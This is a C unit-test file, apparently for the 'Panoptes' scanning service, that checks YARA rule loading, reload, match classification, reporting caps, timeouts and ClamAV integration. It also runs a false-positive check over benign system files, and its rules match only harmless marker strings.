	struct timeval tv[2] = { { t, 0 }, { t, 0 } };

	if (utimes(path, tv) == -1)
		fatal("utimes %s", path);
}

static void
test_reload(void)
{
	static const char two[] = "... panoptes-marker-two ...";
	char root[TEST_PATH_MAX], file[TEST_PATH_MAX + 64];
	struct pn_engines set;
	struct pn_engine *e;
	struct pn_verdict v;
	struct pn_conf *c;

	snprintf(root, sizeof(root), "%s/reload-root", tmpdir);
	make_dir(root);
	make_pack(root, "live", "live.yar",
	    "rule Marker_One { strings: $a = \"panoptes-marker-one\" condition: $a }\n");
	snprintf(file, sizeof(file), "%s/live/live.yar", root);
	set_mtime(file, 1577836800);                 /* 2020-01-01 */
	c = conf_for(root, NULL);
	load_yara(&set, c);
	e = find_engine(&set, "YARA-Live");
	if (e == NULL) {
		ok(0, "reload: pack loaded");
		goto out;
	}
	is_str(e->update, "20200101", "engine_update from the rule file's mtime");
	check_verdict(e, two, strlen(two), PN_CAT_UNDETECTED, NULL, "before reload", &v);
	pn_verdict_release(&v);
	write_text(file, "rule Marker_Two { strings: $a = \"panoptes-marker-two\" condition: $a }\n");
	set_mtime(file, 1609545600);                 /* 2021-01-02 */
	is_int(e->ops->reload(e, c), PN_OK, "reload compiles the changed rule");
	is_str(e->update, "20210102", "reload updates engine_update");
	check_verdict(e, two, strlen(two), PN_CAT_MALICIOUS, "Marker_Two", "after reload", &v);
	pn_verdict_release(&v);
	write_text(file, "rule Marker_Three { condition: nonsense( }\n");
	is_int(e->ops->reload(e, c), PN_EFORMAT, "reload of a broken rule fails");
	ok(strncmp(e->error, "live.yar:1: ", 12) == 0, "failed reload sets e->error (%s)", e->error);
	check_verdict(e, two, strlen(two), PN_CAT_MALICIOUS, "Marker_Two",
	    "old rules kept after a failed reload", &v);
	pn_verdict_release(&v);
	is_str(e->update, "20210102", "failed reload keeps engine_update");
out:
	pn_engines_free(&set);
	pn_conf_free(c);
}

/* Classes from meta/tags, data encodings, caps, externals, size limit. */
static void
test_classes_and_caps(void)
{
	char root[TEST_PATH_MAX], buf[8192];
	char *many = NULL;
	size_t many_len = 0;
	static char sample[4096];
	struct pn_engines set;
	struct pn_engine *e;
	struct pn_verdict v;
	struct json_object *m;
	struct pn_conf *c;
	size_t i, n = 0;

	/* 40 rules on one marker: 32 reported, 8 dropped. */
	for (i = 0; i < 40; i++) {
		int k = snprintf(buf, sizeof(buf), "rule Many_%02zu { meta: category = \"info\" "
		    "strings: $a = \"cap-marker\" condition: $a }\n", i);

		many = pn_xrealloc(many, many_len + (size_t)k + 1);
		memcpy(many + many_len, buf, (size_t)k + 1);
		many_len += (size_t)k;
	}
	snprintf(root, sizeof(root), "%s/classes", tmpdir);
	make_dir(root);
	make_pack(root, "cls", "many.yar", many);
	free(many);
	make_pack(root, "cls", "classes.yar",
	    "rule Default_Class { strings: $a = \"cls-default\" condition: $a }\n"
	    "rule Severity_Low { meta: severity = \"low\" strings: $a = \"cls-sus\" condition: $a }\n"
	    "rule Tagged : suspicious other { strings: $a = \"cls-sus\" condition: $a }\n"
	    "rule Score_Fifty { meta: score = 50 strings: $a = \"cls-sus\" condition: $a }\n"
	    "rule Info_Only { meta: category = \"info\" flag = true n = 7 "
	    "date = \"2021-03-04\" last_date = \"n/a\" "
	    "strings: $w = \"wide-marker\" wide $h = { 00 01 02 03 } "
	    "$long = /cls-long-[a-z]{90}/ condition: any of them }\n"
	    "rule Repeated { meta: category = \"info\" strings: $r = \"rep!\" condition: #r > 30 }\n"
	    "rule Ext_Vars { meta: category = \"info\" condition: extension == \".php\" and "
	    "filename == \"x.PHP\" and filepath == \"up/x.PHP\" }\n");
	c = conf_for(root, NULL);
	pn_conf_put(c, "yara.max_filesize", "3K");
	load_yara(&set, c);
	e = find_engine(&set, "YARA-Cls");
	if (e == NULL || e->error[0] != '\0') {
		ok(0, "class pack loads (%s)", e ? e->error : "missing");
		goto out;
	}

	n = (size_t)snprintf(sample, sizeof(sample), "cls-sus cls-default ");
	check_verdict(e, sample, n, PN_CAT_MALICIOUS, "Default_Class", "no meta: malicious", &v);
	is_str(jstr(find_match(&v, "Severity_Low"), "category"), "suspicious", "severity low: suspicious");
	is_str(jstr(find_match(&v, "Tagged"), "category"), "suspicious", "tag suspicious: suspicious");
	is_str(jstr(find_match(&v, "Score_Fifty"), "category"), "suspicious", "score 50: suspicious");
	m = find_match(&v, "Tagged");
	ok(m != NULL && json_object_array_length(jget(m, "tags")) == 2, "tags listed");
	pn_verdict_release(&v);

	n = (size_t)snprintf(sample, sizeof(sample), "cls-sus only");
	check_verdict(e, sample, n, PN_CAT_SUSPICIOUS, "Severity_Low", "suspicious only", &v);
	is_str(v.method, "heuristic", "suspicious only: method heuristic");
	pn_verdict_release(&v);

	memset(sample, '.', sizeof(sample));
	memcpy(sample + 10, "w\0i\0d\0e\0-\0m\0a\0r\0k\0e\0r\0", 22);
	memcpy(sample + 40, "\0\1\2\3", 4);
	memcpy(sample + 50, "cls-long-", 9);
	memset(sample + 59, 'q', 90);
	for (i = 0; i < 40; i++)
		memcpy(sample + 200 + 4 * i, "rep!", 4);
	n = 400;
	check_verdict(e, sample, n, PN_CAT_UNDETECTED, NULL, "info only: undetected", &v);
	m = find_match(&v, "Info_Only");
	is_str(jstr(find_string(m, "$w"), "data"), "wide-marker", "wide string shown as text");
	is_str(jstr(find_string(m, "$w"), "encoding"), "utf-16le", "wide string encoding");
	is_int(jint(find_string(m, "$w"), "offset"), 10, "wide string offset");
	is_str(jstr(find_string(m, "$h"), "data"), "00010203", "hex string shown as hex");
	is_int(jint(find_string(m, "$long"), "length"), 99, "long match: full length");
	ok(jstr(find_string(m, "$long"), "data") != NULL &&
	    strlen(jstr(find_string(m, "$long"), "data")) == PN_YARA_MAX_DATA,
	    "long match: data capped at %d bytes", PN_YARA_MAX_DATA);
	ok(jget(jget(m, "meta"), "flag") != NULL &&
	    json_object_get_boolean(jget(jget(m, "meta"), "flag")) &&
	    jint(jget(m, "meta"), "n") == 7, "boolean and integer meta kept");
	is_int(jint(jget(m, "meta"), "date"), 1614816000, "meta date text becomes a Unix time");
	is_str(jstr(jget(m, "meta"), "last_date_text"), "n/a", "meta date that is no date: <key>_text");
	ok(jget(jget(m, "meta"), "last_date") == NULL, "no text under a *_date key");
	m = find_match(&v, "Repeated");
	is_int(json_object_array_length(jget(m, "strings")), PN_YARA_MAX_STRINGS_REPORTED,
	    "string matches capped per rule");
	is_int(jint(m, "strings_dropped"), 40 - PN_YARA_MAX_STRINGS_REPORTED, "dropped matches counted");
	pn_verdict_release(&v);

	n = (size_t)snprintf(sample, sizeof(sample), "cap-marker");
	check_verdict(e, sample, n, PN_CAT_UNDETECTED, NULL, "40 matching rules", &v);
	is_int(json_object_array_length(jget(v.details, "matches")), PN_YARA_MAX_RULES_REPORTED,
	    "matching rules capped");
	is_int(jint(v.details, "rules_dropped"), 40 - PN_YARA_MAX_RULES_REPORTED,
	    "dropped rules counted");
	pn_verdict_release(&v);

	memset(&v, 0, sizeof(v));
	{
		struct pn_scan_target t = target("<?php", 5, "up/x.PHP");

		is_int(e->ops->scan(e, &t, &v), PN_OK, "scan with a submitted name");
		ok(find_match(&v, "Ext_Vars") != NULL, "filename, filepath, extension externals set");
		pn_verdict_release(&v);
	}

	memset(sample, 'a', sizeof(sample));
	check_verdict(e, sample, sizeof(sample), PN_CAT_TYPE_UNSUPPORTED, NULL,
	    "over yara.max_filesize", &v);
	pn_verdict_release(&v);
out:
	pn_engines_free(&set);
	pn_conf_free(c);
}

static void
test_timeout(void)
{
	char root[TEST_PATH_MAX];
	struct pn_engines set;
	struct pn_engine *e;
	struct pn_verdict v;
	struct pn_conf *c;
	uint8_t *big;
	size_t n = 4u << 20;
	int64_t t0;

	snprintf(root, sizeof(root), "%s/slow-root", tmpdir);
	make_dir(root);
	make_pack(root, "slow", "slow.yar",
	    "rule Slow_Loop { condition: for all i in (0..filesize - 1) : "
	    "( for all j in (0..1000) : ( uint8(i) != 0x100 ) ) }\n");
	c = conf_for(root, NULL);
	pn_conf_put(c, "engines.timeout", "1");
	load_yara(&set, c);
	e = find_engine(&set, "YARA-Slow");
	if (e == NULL || e->error[0] != '\0') {
		ok(0, "slow pack loads");
		goto out;
	}
	is_int(e->timeout_s, 1, "engines.timeout reaches the engine");
	big = pn_xcalloc(1, n);
	t0 = now_us();
	is_int(scan(e, big, n, NULL, &v), PN_OK, "slow rule: scan returns");
	is_str(pn_category_name(v.category), "timeout", "slow rule: category timeout");
	ok(v.result == NULL && v.details == NULL, "timeout: no result, no details");
	ok(now_us() - t0 < 5000000, "timeout stops the scan (%.2f s)", (double)(now_us() - t0) / 1e6);
	pn_verdict_release(&v);
	free(big);
out:
	pn_engines_free(&set);
	pn_conf_free(c);
}

static int
failing_instances(const struct pn_conf *conf, const char *prefix,
    struct pn_engine_instance **out, size_t *n)
{
	*out = NULL;
	*n = 0;
	return PN_EIO;
}

/* A kind whose instances cannot be listed is one row that says so. */
static void
test_failing_kind(void)
{
	static const struct engine_row row = {
		"Broken-Kind", &pn_engine_yara_ops, NULL, NULL, failing_instances, NULL,
	};
	struct pn_conf *c = pn_conf_new();
	struct pn_engines set;
	struct pn_verdict v;

	set.v = pn_xcalloc(PN_ENGINES_MAX, sizeof(*set.v));
	set.n = 0;
	load_row(&set, &row, c);
	ok(set.n == 1 && strcmp(set.v[0]->name, "Broken-Kind") == 0 &&
	    strstr(set.v[0]->error, "listing Broken-Kind engines failed") != NULL,
	    "failing instances function: one row with an error (%s)", set.n ? set.v[0]->error : "");
	ok(set.n == 1 && scan(set.v[0], "x", 1, NULL, &v) == PN_EINTERNAL, "its scans fail");
	pn_engines_free(&set);
	pn_conf_free(c);
}

/* The whole table: ClamAV still loads and detects, YARA rows follow it. */
static void
test_engine_set(const char *argv0)
{
	struct pn_conf *c = conf_for(rules, NULL);
	char sigs[sizeof(rules) + 32];
	struct pn_engines set;
	struct pn_engine *cl;
	struct pn_verdict v;
	size_t i, yara_rows = 0;

	snprintf(sigs, sizeof(sigs), "%s/../engines/sigs", rules);
	pn_conf_put(c, "clamav.signatures", sigs);
	pn_conf_put(c, "clamav.database_dir", "");
	pn_engines_load(&set, c);
	cl = find_engine(&set, "ClamAV");
	ok(cl != NULL && cl->error[0] == '\0', "ClamAV row loads as before (%s)", cl ? cl->error : "");
	ok(set.n > 0 && set.v[0] == cl, "ClamAV is the first column");
	if (cl != NULL) {
		check_verdict(cl, eicar, sizeof(eicar), PN_CAT_MALICIOUS, "Panoptes.Test.EICAR-NDB",
		    "ClamAV EICAR", &v);
		pn_verdict_release(&v);
	}
	for (i = 0; i < set.n; i++)
		if (strcmp(set.v[i]->ops->kind, "yara") == 0)
			yara_rows++;
	is_int(yara_rows, PN_ARRAY_LEN(project_packs), "one YARA row per project pack");
	pn_engines_free(&set);
	pn_conf_put(c, "yara.enabled", "false");
	pn_engines_load(&set, c);
	yara_rows = 0;
	for (i = 0; i < set.n; i++)
		if (strcmp(set.v[i]->ops->kind, "yara") == 0)
			yara_rows++;
	is_int(yara_rows, 0, "yara.enabled=false: no YARA rows");
	pn_engines_free(&set);
	pn_conf_free(c);
}

/* ------------------------------------------------------------------------
 * Benign corpus.
 */

struct corpus {
	char **paths;
	size_t n, cap;
};

static void
corpus_add(struct corpus *k, const char *path)
{
	struct stat st;

	/* lstat: a symlink (libfoo.so -> libfoo.so.1) would count its target twice */
	if (lstat(path, &st) == -1 || !S_ISREG(st.st_mode) || st.st_size == 0 ||
	    (uint64_t)st.st_size > BENIGN_MAX_FILE)
		return;
	if (k->n == k->cap) {
		k->cap = k->cap ? k->cap * 2 : 1024;
		k->paths = pn_xrealloc(k->paths, k->cap * sizeof(*k->paths));
	}
	k->paths[k->n++] = pn_xstrdup(path);
}

static struct corpus *walk_into;
static const char *walk_ext;

static int
walk_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	if (flag == FTW_F && (walk_ext == NULL || has_ext(path, walk_ext)))
		corpus_add(walk_into, path);
	return 0;
}

static void
corpus_walk(struct corpus *k, const char *dir, const char *ext)
{
	walk_into = k;
	walk_ext = ext;
	nftw(dir, walk_entry, 16, FTW_PHYS);
}

static void
corpus_glob(struct corpus *k, const char *pattern)
{
	glob_t g;
	size_t i;

	if (glob(pattern, 0, NULL, &g) != 0)
		return;
	for (i = 0; i < g.gl_pathc; i++)
		corpus_add(k, g.gl_pathv[i]);
	globfree(&g);
}

static int
path_cmp(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Up to want paths of src, evenly spread, moved into dst. */
static void
corpus_take(struct corpus *dst, struct corpus *src, size_t want)
{
	size_t i, step;

	qsort(src->paths, src->n, sizeof(*src->paths), path_cmp);
	step = src->n > want && want > 0 ? src->n / want : 1;
	for (i = 0; i < src->n; i++) {
		if (i % step == 0 && want > 0) {
			corpus_add(dst, src->paths[i]);
			want--;
		}
		free(src->paths[i]);
	}
	free(src->paths);
	memset(src, 0, sizeof(*src));
}

static void
build_corpus(struct corpus *k, int full)
{
	struct corpus part;
	size_t scale = full ? 10 : 1;

	memset(&part, 0, sizeof(part));
	corpus_glob(&part, "/usr/bin/*");
	corpus_take(k, &part, 90 * scale);
	corpus_glob(&part, "/usr/lib/x86_64-linux-gnu/*.so*");
	corpus_take(k, &part, 70 * scale);
	corpus_walk(&part, "/usr/lib/x86_64-linux-gnu/wine", NULL);
	corpus_take(k, &part, 70 * scale);
	corpus_glob(&part, "/usr/lib/python3*/*.py");
	corpus_glob(&part, "/usr/lib/python3*/*/*.py");
	corpus_glob(&part, "/usr/lib/python3/dist-packages/*/*.py");
	corpus_take(k, &part, 65 * scale);
	corpus_walk(&part, "/usr/share/doc", ".pdf");
	corpus_take(k, &part, 5 * scale);
}

struct corpus_stats {
	size_t files, malicious, suspicious;
	uint64_t bytes;
	int64_t us[PN_ARRAY_LEN(project_packs)];
};

static void
scan_corpus_file(struct pn_engines *set, const char *path, struct corpus_stats *cs)
{
	struct stat st;
	void *map;
	size_t j;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd == -1)
		return;
	if (fstat(fd, &st) == -1 || st.st_size == 0 ||
	    (map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0)) == MAP_FAILED) {
		close(fd);
		return;
	}
	cs->files++;
	cs->bytes += (uint64_t)st.st_size;
	for (j = 0; j < PN_ARRAY_LEN(project_packs); j++) {
		struct pn_engine *e = find_engine(set, project_packs[j]);
		struct pn_verdict v;
		int64_t t0 = cpu_us();

		if (e == NULL || scan(e, map, (size_t)st.st_size, NULL, &v) != PN_OK)
			continue;
		cs->us[j] += cpu_us() - t0;
		if (v.category == PN_CAT_MALICIOUS) {
			cs->malicious++;
			ok(0, "benign %s: %s says malicious (%s)", path, e->name, v.result);
		} else if (v.category == PN_CAT_SUSPICIOUS) {
			cs->suspicious++;
			diag("suspicious: %s: %s %s (%s)", path, e->name, v.result,
			    jstr(jget(find_match(&v, v.result), "meta"), "description"));
		}
		pn_verdict_release(&v);
	}
	munmap(map, (size_t)st.st_size);
	close(fd);
}

static void
test_benign_corpus(void)
{
	const char *full_env = getenv("PN_TEST_BENIGN_FULL");
	const char *list = getenv("PN_TEST_BENIGN_LIST");
	int full = full_env != NULL && strcmp(full_env, "1") == 0;
	struct pn_conf *c = conf_for(rules, NULL);
	struct corpus_stats cs;
	struct corpus k;
	struct pn_engines set;
	int64_t total = 0;
	FILE *lf = NULL;
	size_t i;

	memset(&k, 0, sizeof(k));
	memset(&cs, 0, sizeof(cs));
	build_corpus(&k, full);
	if (list != NULL && (lf = fopen(list, "w")) == NULL)
		fatal("open %s", list);
	load_yara(&set, c);
	for (i = 0; i < k.n; i++) {
		if (lf != NULL)
			fprintf(lf, "%s\n", k.paths[i]);
		scan_corpus_file(&set, k.paths[i], &cs);
		free(k.paths[i]);
	}
	free(k.paths);
	if (lf != NULL)
		fclose(lf);
	for (i = 0; i < PN_ARRAY_LEN(project_packs); i++) {
		total += cs.us[i];
		diag("  %-18s %8.1f MB/s", project_packs[i],
		    cs.us[i] > 0 ? (double)cs.bytes / (double)cs.us[i] : 0.0);
	}
	diag("benign corpus (%s): %zu files, %.1f MB, all packs %.2f s CPU = %.1f MB/s; "
	    "%zu suspicious", full ? "full" : "sample", cs.files, (double)cs.bytes / 1e6,
	    (double)total / 1e6, total > 0 ? (double)cs.bytes / (double)total : 0.0, cs.suspicious);
	ok(cs.files >= (full ? 1000u : 100u), "benign corpus has files (%zu)", cs.files);
	is_int(cs.malicious, 0, "benign corpus: no malicious verdict");
	pn_engines_free(&set);
	pn_conf_free(c);
}

int
main(int argc, char **argv)
{
	const char *tmp = getenv("TMPDIR");
	size_t i;

	for (i = 0; i < sizeof(eicar); i++)
		eicar[i] = eicar_masked[i] ^ 0xa5;
	find_rules(argv[0]);
	diag("rules: %s", rules);
	snprintf(tmpdir, sizeof(tmpdir), "%s/pn-yara-XXXXXX", tmp && *tmp ? tmp : "/tmp");
	if (mkdtemp(tmpdir) == NULL)
		fatal("mkdtemp");
	test_helpers();
	test_project_packs();
	test_broken_and_extra();
	test_reload();
	test_classes_and_caps();
	test_timeout();
	test_failing_kind();
	test_engine_set(argv[0]);
	test_benign_corpus();
	nftw(tmpdir, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
	return done_testing();
}
